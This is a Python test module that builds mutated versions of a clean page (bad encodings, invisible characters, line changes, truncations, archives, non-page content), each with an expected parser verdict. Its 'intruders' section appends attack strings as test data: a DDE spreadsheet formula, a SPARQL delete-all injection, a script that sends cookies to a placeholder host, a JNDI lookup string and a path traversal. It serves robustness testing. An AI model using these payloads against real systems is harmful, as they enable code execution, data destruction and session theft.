"""A clean page → the same page as users may hold it: spoilt, decorated, cut, joined; each way with its verdict.

Verdicts: ``same`` (the facts are those of the clean page), ``mended`` (the same, and an issue says what was done),
``subset`` (something was lost: no fact is new), ``flag`` (an issue, or refused), ``reject`` (refused).
"""

from __future__ import annotations

import gzip
import html
import io
import json
import re
import tarfile
import textwrap
import unicodedata
import zipfile
from itertools import pairwise
from typing import TYPE_CHECKING, Final, NamedTuple

from kg.lines import key
from kg.read.listing import layouts

if TYPE_CHECKING:
    from collections.abc import Callable
    from random import Random

    Mutation = Callable[[str, "Random"], str]


class Mutator(NamedTuple):
    """A way to spoil a page (text → bytes), and what must come of it."""

    name: str
    verdict: str
    spoil: Callable[[str, Random], bytes]


def text(name: str, verdict: str, mutation: Mutation) -> Mutator:
    """A mutator that changes the words, not their encoding."""
    return Mutator(name, verdict, lambda page, chance: mutation(page, chance).encode("utf-8", "surrogatepass"))


# --- encodings ----------------------------------------------------------------------------------------------------


def as_windows(page: str) -> str:
    """UTF-8 as an old editor shows it, with a control character where Windows-1252 has none."""
    return "".join(
        bytes([byte]).decode("cp1252") if byte not in {0x81, 0x8D, 0x8F, 0x90, 0x9D} else chr(byte)
        for byte in page.encode()
    )


def as_latin(page: str) -> str:
    """UTF-8 read as Latin-1."""
    return page.encode().decode("latin-1")


def western(page: str, encoding: str) -> bytes:
    """A page in a one-byte encoding, its other characters as references, as a browser sends a form."""
    return page.encode(encoding, "xmlcharrefreplace")


ENCODINGS: Final = (
    Mutator("utf16", "same", lambda page, _: page.encode("utf-16")),
    Mutator("utf16_be_mark", "same", lambda page, _: b"\xfe\xff" + page.encode("utf-16-be")),
    Mutator("utf16_le", "mended", lambda page, _: page.encode("utf-16-le")),
    Mutator("utf16_be", "mended", lambda page, _: page.encode("utf-16-be")),
    Mutator("utf32_le", "mended", lambda page, _: page.encode("utf-32-le")),
    Mutator("utf32", "same", lambda page, _: page.encode("utf-32")),
    Mutator("utf16_odd", "same", lambda page, _: page.encode("utf-16") + b"\n"),
    Mutator("windows_1252", "same", lambda page, _: western(page, "cp1252")),
    Mutator("latin_1", "same", lambda page, _: western(page, "latin-1")),
    text("mojibake", "mended", lambda page, _: as_windows(page)),
    text("mojibake_latin", "mended", lambda page, _: as_latin(page)),
    text("mojibake_twice", "mended", lambda page, _: as_windows(as_windows(page))),
    text("mojibake_partly", "flag", lambda page, _: page + "\nÀ propos\n" + as_windows("Hôpitaux ≥ ½ âgés\n")),
    text("replaced", "flag", lambda page, _: page.replace("e", "\ufffd", 3)),
    Mutator("broken_bytes", "flag", lambda page, _: page.encode().replace(b"e", b"\xe9", 4)),
)

# --- characters ---------------------------------------------------------------------------------------------------


def sprinkled(signs: str, share: float = 0.05) -> Mutation:
    """Signs that nobody sees, put inside the words."""

    def mutation(page: str, chance: Random) -> str:
        return "".join(
            c + chance.choice(signs) if c.isascii() and c.isalpha() and chance.random() < share else c for c in page
        )

    return mutation


def replaced(old: str, new: str) -> Mutation:
    """One sign for another."""
    return lambda page, _: re.sub(old, new, page)


CHARACTERS: Final = (
    text("zero_width", "same", sprinkled("\u200b\u200c\u200d\u2060\ufeff")),
    text("directions", "same", sprinkled("\u200e\u200f\u202a\u202c\u2066\u2069")),
    text("override", "mended", replaced(r"(?m)^", "\u202d")),
    text("controls", "mended", sprinkled("\x01\x07\x08\x1b\x7f", 0.002)),
    text("terminal_colours", "same", replaced(r"(?m)^(.+)$", "\x1b[1;32m\\1\x1b[0m")),
    text("thin_spaces", "same", replaced(r"(?<=\w) (?=\w)", "\u2009")),
    text("ideographic_spaces", "same", replaced(r"(?<=\w) (?=\w)", "\u3000")),
    text("double_spaces", "same", replaced(r"(?<=\S) (?=\S)", "  ")),
    text("ligatures", "same", lambda page, _: page.replace("fi", "\ufb01").replace("fl", "\ufb02")),
    text("hard_hyphens", "same", replaced(r"(?<=\w)-(?=\w)", "\u2011")),
    text("decomposed", "same", lambda page, _: unicodedata.normalize("NFD", page)),
    text("escaped_twice", "same", lambda page, _: html.escape(html.escape(page, quote=False), quote=False)),
    text("numeric_entities", "same", lambda page, _: re.sub(r"[^\x00-\x7f]", lambda m: f"&#{ord(m[0])};", page)),
    text("markdown_escapes", "same", replaced(r"(?<!\\)([<>*_#\[\]()])", r"\\\1")),
    text("tags_in_words", "same", replaced(r"\b([A-Z][a-z]{4,})\b", r"<b>\1</b>")),
    text("spans", "same", replaced(r"(?m)(?<= )([a-z]{5,})(?= )", r'<span class="x">\1</span>')),
)

# --- lines --------------------------------------------------------------------------------------------------------


def headings(page: str) -> set[str]:
    """The lines of a page that its layout takes for headings of their own."""
    known = {words for layout in layouts().values() for field in layout.fields for words in field.keys}  # type: ignore[attr-defined]
    return {line for line in page.split("\n") if key(re.sub(r"^\s*[-•]\s*", "", line)) in known}


def headed(change: Callable[[str], str]) -> Mutation:
    """Change the headings of a page, bullets left alone."""

    def mutation(page: str, _: Random) -> str:
        found = headings(page)
        return "\n".join(
            re.sub(r"^(\s*(?:[-•]\s+)?)(.*)$", lambda m: m[1] + change(m[2]), line) if line in found else line
            for line in page.split("\n")
        )

    return mutation


def banner(page: str, chance: Random) -> str:
    """A notice in the middle of a page, between two lines."""
    lines = page.split("\n")
    at = chance.randrange(len(lines))
    notice = ["We use cookies to improve your experience.", "Accept all cookies", "Cookie settings"]
    return "\n".join([*lines[:at], *notice, *lines[at:]])


def doubled_section(page: str, chance: Random) -> str:
    """One section stands there twice in a row."""
    lines = page.split("\n")
    marks = [i for i, line in enumerate(lines) if line in headings(page)]
    spans = [(a, b) for a, b in zip(marks, [*marks, len(lines)][1:], strict=True) if b > a + 1]
    start, end = chance.choice(spans)
    return "\n".join(lines[:end] + lines[start:end] + lines[end:])


def wrapped(page: str, _: Random) -> str:
    """Hard line ends at 80 columns."""
    return "\n".join(
        textwrap.fill(line, 80, break_long_words=False, break_on_hyphens=False) if len(line) > 80 else line
        for line in page.split("\n")
    )


LINES: Final = (
    text("carriage_returns", "same", lambda page, _: page.replace("\n", "\r")),
    text(
        "mixed_ends", "same", lambda page, r: "".join(r.choice(["\r\n", "\n", "\r"]) if c == "\n" else c for c in page)
    ),
    text("line_separators", "same", lambda page, _: page.replace("\n", "\u2028")),
    text("next_lines", "same", lambda page, _: page.replace("\n", "\x85")),
    text("double_lines", "same", lambda page, _: page.replace("\n", "\n\n")),
    text("doubled_returns", "same", lambda page, _: page.replace("\n", "\r\r\n")),
    text(
        "page_breaks", "same", lambda page, r: "".join(c + "\f" if c == "\n" and r.random() < 0.1 else c for c in page)
    ),
    text("tabs", "same", lambda page, _: re.sub(r"(?m)^( +)", lambda m: "\t" * (len(m[1]) // 2), page)),
    text("all_indented", "same", lambda page, _: textwrap.indent(page, "    ")),
    text("quoted_mail", "same", lambda page, _: textwrap.indent(page, "> ", lambda _: True)),
    text("bullets_word", "same", replaced(r"(?m)^(\s*)[-•] ", "\\1\uf0b7\t")),
    text("bullets_star", "same", replaced(r"(?m)^(\s*)[-•] ", r"\1* ")),
    text("bullets_middle_dot", "same", replaced(r"(?m)^(\s*)[-•] ", "\\1· ")),
    text("bullets_square", "same", replaced(r"(?m)^(\s*)[-•] ", "\\1▪ ")),
    text("bullets_dash", "same", replaced(r"(?m)^(\s*)[-•] ", "\\1– ")),
    text("bullets_plus", "same", replaced(r"(?m)^(\s*)[-•] ", r"\1+ ")),
    text("headings_upper", "same", headed(str.upper)),
    text("headings_lower", "same", headed(str.lower)),
    text("headings_colon", "same", headed(lambda words: f"{words}:")),
    text("headings_bold", "same", headed(lambda words: f"**{words}**")),
    text("headings_underlined", "same", headed(lambda words: f"__{words}__")),
    text("headings_marked", "same", headed(lambda words: f"### {words}")),
    text("headings_numbered_space", "same", headed(lambda words: f"{words} \u00a0")),
    text("wrapped", "mended", wrapped),
    text("banner", "same", banner),
    text("doubled_section", "same", doubled_section),
    text("repeated", "same", lambda page, _: f"{page}\n{page}"),
    text("repeated_with_rule", "same", lambda page, _: f"{page}\n----------\n{page}\n----------\n{page}"),
    text("one_line", "reject", lambda page, _: " ".join(page.split())),
    text("one_line_no_spaces", "reject", lambda page, _: "".join(page.split("\n"))),
)

# --- loss ---------------------------------------------------------------------------------------------------------


def cut_at(share: float) -> Mutation:
    """The page up to a point."""
    return lambda page, _: page[: int(len(page) * share)]


def without_block(page: str, chance: Random) -> str:
    """A stretch of five lines is gone."""
    lines = page.split("\n")
    at = chance.randrange(max(1, len(lines) - 5))
    return "\n".join(lines[:at] + lines[at + 5 :])


def shuffled(page: str, chance: Random) -> str:
    """The sections in any order."""
    lines = page.split("\n")
    marks = [0, *(i for i, line in enumerate(lines) if line in headings(page)), len(lines)]
    parts = [lines[a:b] for a, b in pairwise(marks)]
    chance.shuffle(parts)
    return "\n".join(line for part in parts for line in part)


LOSS: Final = (
    *(text(f"cut_at_{share}", "subset", cut_at(share / 100)) for share in (30, 45, 60, 75, 90, 97)),
    text("headless", "subset", lambda page, _: page[len(page) // 10 :]),
    text("without_block", "subset", without_block),
    text("shuffled_sections", "flag", shuffled),
)

# --- intruders ----------------------------------------------------------------------------------------------------

INTRUDERS: Final = (
    text("formulas", "same", lambda page, _: page + "\n=cmd|' /C calc'!A0\n@SUM(1+1)\n+1+1\n-2+3\n"),
    text(
        "turtle",
        "same",
        lambda page, _: page + '\n<http://x.org/a> <http://x.org/b> "c" .\n@prefix x: <http://x.org/> .\n',
    ),
    text(
        "update",
        "same",
        lambda page, _: page + '\n"} ; DELETE WHERE { ?s ?p ?o } ; INSERT DATA { <a:a> <b:b> "c" } #\n',
    ),
    text(
        "scripts",
        "same",
        lambda page, _: page + "\n<script>fetch('//x.org?'+document.cookie)</script>\n<iframe src=//x>\n",
    ),
    text("template", "same", lambda page, _: page + "\n{{7*7}} ${jndi:ldap://x.org/a} %n%s ../../etc/passwd\n"),
    text("menu", "same", lambda page, _: "Skip to main content\nHome | About us | Contact\nSign in\n" + page),
    text(
        "footer",
        "same",
        lambda page, _: page + "\nPrivacy policy | Terms of use\n© 2026 Example Ltd. All rights reserved.\n",
    ),
)

# --- what is no page of ours ----------------------------------------------------------------------------------------


def zipped(page: str) -> bytes:
    """An archive under a text's name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("page.txt", page)
    return out.getvalue()


def tarred(page: str) -> bytes:
    """A tar under a text's name."""
    out = io.BytesIO()
    data = page.encode()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("page.txt")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


STRANGERS: Final = (
    Mutator("zip", "reject", lambda page, _: zipped(page)),
    Mutator("tar", "reject", lambda page, _: tarred(page)),
    Mutator("gzip", "reject", lambda page, _: gzip.compress(page.encode(), mtime=0)),
    Mutator("rtf", "reject", lambda page, _: rb"{\rtf1\ansi " + page.encode("ascii", "replace") + b"}"),
    Mutator("picture", "reject", lambda _, r: b"\x89PNG\r\n\x1a\n" + r.randbytes(5000)),
    Mutator("random", "reject", lambda _, r: r.randbytes(20_000)),
    Mutator("random_high", "reject", lambda _, r: bytes(r.randrange(128, 256) for _ in range(20_000))),
    Mutator("zeros", "reject", lambda page, _: page.encode() + b"\0" * 500),
    text("not_found", "reject", lambda _, __: "404 Not Found\nThe page you are looking for does not exist.\n"),
    text(
        "checking", "reject", lambda _, __: "Just a moment...\nEnable JavaScript and cookies to continue\nRay ID: 1\n"
    ),
    text("login", "reject", lambda _, __: "Sign in\nEmail\nPassword\nForgot password?\nSearch clinical trials\n"),
    text("article", "reject", lambda _, __: "Systemic sclerosis is a disease of the skin (NCT05273138).\n\n" * 40),
    text("json_error", "reject", lambda _, __: json.dumps({"error": "not found", "nctId": "NCT05273138"})),
    text("table", "reject", lambda _, __: "id,title,status\nNCT05273138,Analysis of fibroblasts,RECRUITING\n" * 30),
    text("only_headings", "reject", lambda _, __: "Conditions\nInterventions\n"),
    text("code", "reject", lambda _, __: "import os\n\ndef main():\n    print('NCT05273138')\n" * 20),
)

MUTATORS: Final = (*ENCODINGS, *CHARACTERS, *LINES, *LOSS, *INTRUDERS, *STRANGERS)
